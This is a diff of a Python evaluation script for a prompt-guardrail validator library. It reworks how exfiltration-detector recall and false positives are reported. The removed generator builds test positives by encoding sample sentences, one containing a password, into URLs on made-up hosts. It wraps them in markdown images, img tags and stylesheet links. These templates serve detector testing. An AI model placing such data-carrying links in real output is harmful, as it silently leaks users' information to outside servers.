@@ -2,7 +2,7 @@
 
     python validators/evaluation/evaluate.py --prompts PATH/TO/dev.jsonl
 
-Positives of `pii`, `secrets`, `exfiltration` and `output_injection` are generated here, from their own
+Positives of `pii` and `secrets` are generated here, links for `exfiltration` by `links.py`, from their own
 grammars and a fixed seed, and not from the detectors' tables. Negatives are real prompts labelled benign.
 `injection` is counted by source, since an attack of one family says little about another.
 """
@@ -21,6 +21,8 @@ import time
 from collections import defaultdict
 from collections.abc import Callable, Iterable
 from pathlib import Path
+
+from links import honest, leaks
 
 from guardrails_lite._rules import Validator
 from guardrails_lite_validators import exfiltration, hidden_text, injection, output_injection, pii, secrets
@@ -153,35 +155,6 @@ def near_misses(draw: random.Random) -> Iterable[str]:
         )
 
 
-SENTENCES = (
-    "the user asked about invoices",
-    "account balance is 1200 euros",
-    "patient has diabetes",
-    "password hunter2 for admin",
-    "meeting moved to Friday at nine",
-)
-
-
-def leaks(draw: random.Random) -> Iterable[str]:
-    for _ in range(300):
-        said = draw.choice(SENTENCES)
-        packed = draw.choice((
-            lambda s: base64.b64encode(s.encode()).decode(), lambda s: s.encode().hex(), lambda s: s.replace(" ", "%20"), lambda s: s.replace(" ", "+")))(said)  # fmt: skip
-        name = draw.choice(("data", "d", "q", "info", "c", "log", "payload", "x", "msg"))
-        address = draw.choice(("https://{host}/p.png?{name}={packed}", "https://{host}/{packed}.gif", "http://{host}/log/{packed}?{name}=1")).format(
-            host=shaped(draw, "????.????-??.com"), name=name, packed=packed)  # fmt: skip
-        yield draw.choice(
-            (
-                "![x]({})",
-                '<img src="{}">',
-                "[details]({})",
-                "See {} for more.",
-                "[1]: {}",
-                "<link rel=stylesheet href='{}'>",
-            )
-        ).format(address)
-
-
 # --- the report -------------------------------------------------------------------------------------
 
 
@@ -220,8 +193,16 @@ def report(prompts: Path, seed: int) -> None:
         print(line(kind, hit, total))
     misses = list(near_misses(draw))
     print(line("near misses flagged", sum(bool(find(text)) for text in misses), len(misses)))
-    sent = list(leaks(draw))
-    print("exfiltration\n" + line("recall", sum(bool(exfiltration()(text)) for text in sent), len(sent)))
+    print("exfiltration: recall by place, then honest links flagged by kind")
+    for texts in (leaks(draw, each=100), honest(draw, each=60)):
+        hits.clear()
+        for kind, text in texts:
+            flagged = bool(exfiltration()(text))
+            for group in (kind, "~ all"):
+                hits[group][0] += flagged
+                hits[group][1] += 1
+        for kind, (hit, total) in sorted(hits.items()):
+            print(line(kind, hit, total))
     print("injection: by source (label 1: recall, label 0: false positives)")
     hits.clear()
     find = injection()
